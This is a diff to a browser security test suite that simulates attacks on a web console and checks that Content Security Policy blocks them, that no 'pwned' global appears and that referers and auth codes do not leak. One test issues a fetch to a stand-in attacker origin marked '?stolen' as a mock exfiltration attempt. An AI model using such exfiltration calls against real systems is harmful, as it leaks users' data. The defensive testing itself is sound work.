@@ -115,6 +115,7 @@ suite('attacks on the console', { skip: noBrowser }, () => {
     await page.evaluate(`document.body.append(Object.assign(document.createElement('a'), { id: 'a', textContent: 'x' }));
       document.getElementById('a').setAttribute('style', 'color:red');`);
     await page.evaluate(`fetch('${evilOrigin}/?stolen').catch(() => undefined)`);
+    await sleep(SETTLED_MS);
     assert.ok(complaints.some((complaint) => complaint.includes('violation of connect-src')));
     assert.ok(complaints.some((complaint) => /violation of (text|.*script)/.test(complaint)));
     assert.equal(await page.evaluate('typeof pwned'), 'undefined');
@@ -235,8 +236,10 @@ suite('attacks on the console', { skip: noBrowser }, () => {
     }
     for (const request of requests) {
       const { referer } = await request.allHeaders();
-      const isOfEntra = request.url().startsWith(local.description.entra.browserAuthority);
-      assert.ok(!referer || (isOfEntra && !referer.includes('console')), `${request.url()}: ${referer}`);
+      // The sign-in page sends its own form to itself.
+      const { browserAuthority } = local.description.entra;
+      const isWithinEntra = [request.url(), referer].every((url) => url?.startsWith(browserAuthority));
+      assert.ok(!referer || isWithinEntra, `${request.url()}: ${referer}`);
     }
     await page.goBack().catch(() => undefined);
     assert.ok(!page.url().includes('code='));
